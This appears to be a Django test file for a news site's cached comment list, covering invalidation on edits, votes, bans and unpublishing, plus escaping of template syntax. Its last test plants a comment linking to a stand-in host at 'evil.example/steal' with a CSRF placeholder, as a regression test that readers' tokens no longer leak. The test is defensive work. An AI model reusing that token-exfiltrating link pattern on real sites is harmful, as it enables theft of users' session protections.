"""The discussion under an article is rendered once per version: every committed change moves
the article's counter, and the next page shows it. Pages themselves are rendered on every
request here (`list_cache`), so what is tested is the list's own invalidation."""

from __future__ import annotations

import pytest
from django.core.cache import caches
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from minbar.moderation.actions import do_ban_reader, do_reject_comment
from minbar.news import actions as news
from minbar.serving.discussions import discussion_version
from tests.factories import make_article, make_comment, make_established_reader, make_user
from tests.moderation.conftest import make_moderator
from tests.serving.conftest import comment_count_shown

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("list_cache", "commits")]


def _signed_in(user=None) -> Client:
    client = Client()
    client.force_login(user or make_user())
    return client


def _page(client, article, query: str = "") -> str:
    response = client.get(article.get_absolute_url() + query)
    assert response.status_code == 200
    return response.content.decode()


def test_reader_can_read_200_comments_with_the_list_kept_in_a_handful_of_queries():
    article = make_article()
    authors = [make_user() for _ in range(10)]
    roots = []
    for n in range(200):
        parent = roots[-1] if roots and n % 4 == 3 else None
        comment = make_comment(article, author=authors[n % 10], text=f"تعليق {n}", parent=parent)
        if parent is None:
            roots.append(comment)
    reader = Client()
    first = _page(reader, article)
    with CaptureQueriesContext(connection) as kept:
        again = _page(reader, article)
    assert again == first
    assert again.count('class="comment ') >= 130  # 100 threads and their replies
    # The article (with its tags and authors) and the sections of the header.
    assert len(kept) == 4, [q["sql"][:80] for q in kept.captured_queries]
    make_comment(article, text="تعليق آخر")
    assert "تعليق آخر" not in _page(reader, article)  # a thread past the first page
    assert "تعليق آخر" in _page(reader, article, "?page=last")
    with CaptureQueriesContext(connection) as after:
        _page(reader, article)
    assert len(after) == len(kept)


def test_every_change_moves_the_version_and_shows_on_the_next_page():
    article = make_article()
    author, reader = make_user(), Client()
    mine = _signed_in(author)
    other = make_comment(article, text="تعليق قارئ آخر")
    before = discussion_version(article.pk)
    mine.post(f"{article.get_absolute_url()}comments/", {"text": "تعليقي الأول"})
    assert discussion_version(article.pk) != before
    page = _page(reader, article)
    assert "تعليقي الأول" in page and comment_count_shown(page) == 2
    _signed_in(make_established_reader()).post(f"/comments/{other.pk}/vote/", {"value": "-1"})
    assert '<bdi class="score" dir="ltr">−1</bdi>' in _page(reader, article)
    own = article.comments.get(body="تعليقي الأول")
    mine.post(f"/comments/{own.pk}/edit/", {"text": "تعليقي المعدّل"})
    page = _page(reader, article)
    assert "تعليقي المعدّل" in page and "تعليقي الأول" not in page
    mine.post(f"/comments/{own.pk}/delete/")
    page = _page(reader, article)
    assert "تعليقي المعدّل" not in page and comment_count_shown(page) == 1
    do_reject_comment(other, moderator=make_moderator(), reason="خارج الموضوع")
    page = _page(reader, article)
    assert "تعليق قارئ آخر" not in page and comment_count_shown(page) == 0


def test_a_ban_hides_the_readers_waiting_comments_from_nobody_and_shows_nothing_hidden():
    article = make_article()
    troll = make_user()
    make_comment(article, author=troll, text="ينتظر المراجعة", status="pending")
    make_comment(article, author=troll, text="ظاهر قبل الحظر")
    reader = Client()
    page = _page(reader, article)
    assert "ينتظر المراجعة" not in page and "ظاهر قبل الحظر" in page
    do_ban_reader(troll, moderator=make_moderator(), reason="إساءة")
    page = _page(reader, article)
    assert "ينتظر المراجعة" not in page
    assert comment_count_shown(page) == 1


def test_article_edits_and_unpublishing_show_on_the_next_page():
    article = make_article(title="العنوان الأول")
    make_comment(article, text="تعليق")
    reader = Client()
    _page(reader, article)
    news.do_update_article(article, title="العنوان المعدّل", comments_open=False)
    page = _page(reader, article)
    assert "العنوان المعدّل" in page and "التعليقات مغلقة" in page
    news.do_unpublish_article(article)
    assert reader.get(article.get_absolute_url()).status_code == 404


def test_each_order_page_and_language_is_kept_apart():
    article = make_article()
    first = make_comment(article, text="كُتب أولًا")
    make_comment(article, text="كُتب ثانيًا")
    reader = Client()
    oldest, newest = _page(reader, article), _page(reader, article, "?order=newest")
    english = reader.get("/en" + article.get_absolute_url()).content.decode()
    translation.activate("ar")  # the request left English active in this thread
    assert oldest.index("كُتب أولًا") < oldest.index("كُتب ثانيًا")
    assert newest.index("كُتب ثانيًا") < newest.index("كُتب أولًا")
    assert 'lang="en"' in english and "Oldest" in english
    assert _page(reader, article) == oldest
    assert f'id="comment-{first.pk}"' in oldest


def test_a_lost_counter_starts_again_where_no_kept_list_can_be():
    article = make_article()
    make_comment(article, text="قبل الفقد")
    reader = Client()
    _page(reader, article)
    old = discussion_version(article.pk)
    caches["pages"].delete(f"discussion-version:{article.pk}")
    make_comment(article, text="بعد الفقد")
    assert discussion_version(article.pk) != old
    assert "بعد الفقد" in _page(reader, article)


def test_comment_text_that_looks_like_a_token_or_a_template_renders_as_text():
    article = make_article()
    text = (
        "{% csrf_token %} {{ csrf_token }} {{ request.user }} MINBAR-CSRF-TOKEN-7f3a9c "
        "csrfmiddlewaretoken {# x #}"
    )
    make_comment(article, text=text)
    reader = _signed_in()
    page = _page(reader, article)
    for piece in ("{% csrf_token %}", "{{ csrf_token }}", "{{ request.user }}", "{# x #}"):
        assert piece in page
    assert "MINBAR-CSRF-TOKEN-7f3a9c" in page
    assert 'name="csrfmiddlewaretoken"' not in page


def test_a_link_with_the_old_csrf_placeholder_hands_no_readers_token_to_its_host():
    """The attack on the old shared list: a comment linking to an outside host with the CSRF
    placeholder in its address got every signed-in reader's token substituted into it."""
    article = make_article()
    make_comment(
        article, text="[صورة](https://evil.example/steal?t=MINBAR-CSRF-TOKEN-7f3a9c) انظروا"
    )
    victims = [_signed_in() for _ in range(2)]
    _page(Client(), article)  # someone else fills the kept list first
    for victim in victims:
        page = _page(victim, article)
        token = victim.get(f"/me/state/?article={article.pk}").json()["csrf"]
        assert "https://evil.example/steal?t=MINBAR-CSRF-TOKEN-7f3a9c" in page
        assert token not in page
        assert victim.cookies["csrftoken"].value not in page
